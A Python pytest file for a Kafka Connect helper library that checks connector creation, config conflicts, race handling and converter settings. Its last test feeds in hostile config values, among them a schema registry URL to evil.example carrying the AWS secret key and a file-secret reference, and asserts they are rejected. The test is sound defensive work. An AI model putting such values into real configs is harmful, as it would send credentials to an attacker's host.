"""A frame's connector: created once, kept if it is the same, never changed unasked; its config is not trusted."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, cast

import pytest

from kconnect.errors import ConfigError, ConflictError, NotFoundError
from kconnect.pyspark import connector
from kconnect.pyspark.options import Options
from kconnect.rest.client import ConnectClient, RestError

CONFIG = {"connector.class": "Datagen", "topic": "t"}


class Worker:
    """A worker's answers. `rival` is a config that somebody else creates at the same moment."""

    url = "http://worker:8083"

    def __init__(self, config: Mapping[str, str] | None = None, rival: Mapping[str, str] | None = None) -> None:
        self.config, self.rival = config, rival
        self.state = "RUNNING"
        self.calls: list[str] = []

    def get_config(self, name: str) -> Mapping[str, str]:
        if self.config is None:
            raise RestError(404, "Connector not found")
        return {**self.config, "name": name}

    def create(self, name: str, config: Mapping[str, str]) -> None:
        self.calls.append("create")
        if self.rival is not None:
            self.config, self.rival = self.rival, None
            raise RestError(409, "Connector already exists")
        self.config = config

    def put_config(self, name: str, config: Mapping[str, str]) -> None:
        self.calls.append("put")
        self.config = config

    def status(self, name: str) -> Mapping[str, Any]:
        return {"connector": {"state": self.state}, "tasks": []}

    def wait_for(self, name: str, state: str, **wanted: Any) -> None:
        self.calls.append("wait")


def ensure(worker: Worker, config: Mapping[str, str] | None = CONFIG, update: bool = False) -> list[str]:
    connector.ensure(cast(ConnectClient, worker), Options(connector="shop", config=config, update=update))
    return worker.calls


def test_it_is_created_and_waited_for() -> None:
    assert ensure(Worker()) == ["create", "wait"]


def test_one_with_the_same_config_is_left_as_it_is() -> None:
    assert ensure(Worker(CONFIG)) == []


def test_one_with_another_config_is_refused_by_names_of_settings_only() -> None:
    with pytest.raises(ConflictError) as caught:
        ensure(Worker({**CONFIG, "topic": "other", "password": "hunter2"}))
    assert "password, topic" in str(caught.value)
    assert "hunter2" not in str(caught.value)
    assert "connector.update=true" in str(caught.value)


def test_it_gets_the_config_if_that_is_wanted() -> None:
    assert ensure(Worker({**CONFIG, "topic": "other"}), update=True) == ["put", "wait"]


@pytest.mark.parametrize("state", ["PAUSED", "STOPPED"])
def test_one_that_does_not_run_gets_the_config_and_stays_so(state: str) -> None:
    worker = Worker({**CONFIG, "topic": "other"})
    worker.state = state
    assert ensure(worker, update=True) == ["put"]


def test_two_notebooks_at_a_time_make_one() -> None:
    assert ensure(Worker(rival=CONFIG)) == ["create"]
    with pytest.raises(ConflictError):
        ensure(Worker(rival={**CONFIG, "topic": "other"}))


def test_one_that_is_only_named_must_be_there() -> None:
    assert ensure(Worker(CONFIG), config=None) == []
    with pytest.raises(NotFoundError, match=r"connector\.config"):
        ensure(Worker(), config=None)


def test_its_converter_is_taken_with_its_settings() -> None:
    config = {
        "value.converter": "AvroConverter",
        "value.converter.schema.registry.url": "http://r:8081",
        "value.converters": "x",
    }
    expected = {"": "AvroConverter", "schema.registry.url": "http://r:8081"}
    assert connector.converter(config, "value.converter") == expected
    assert connector.converter(config, "key.converter") is None


@pytest.mark.parametrize(
    "name, text",
    [
        ("basic.auth.user.info", "${file:/run/secrets:pw}"),
        ("schema.registry.url", "http://evil.example/${env:AWS_SECRET_ACCESS_KEY}"),
        ("bearer.auth.custom.provider.class", "com.example.Evil"),
        ("sasl.oauthbearer.token.endpoint.url", "http://evil.example"),
    ],
)
def test_what_others_wrote_into_it_is_neither_resolved_nor_run(name: str, text: str) -> None:
    with pytest.raises(ConfigError, match="as options of the frame"):
        connector.converter({"value.converter": "AvroConverter", f"value.converter.{name}": text}, "value.converter")
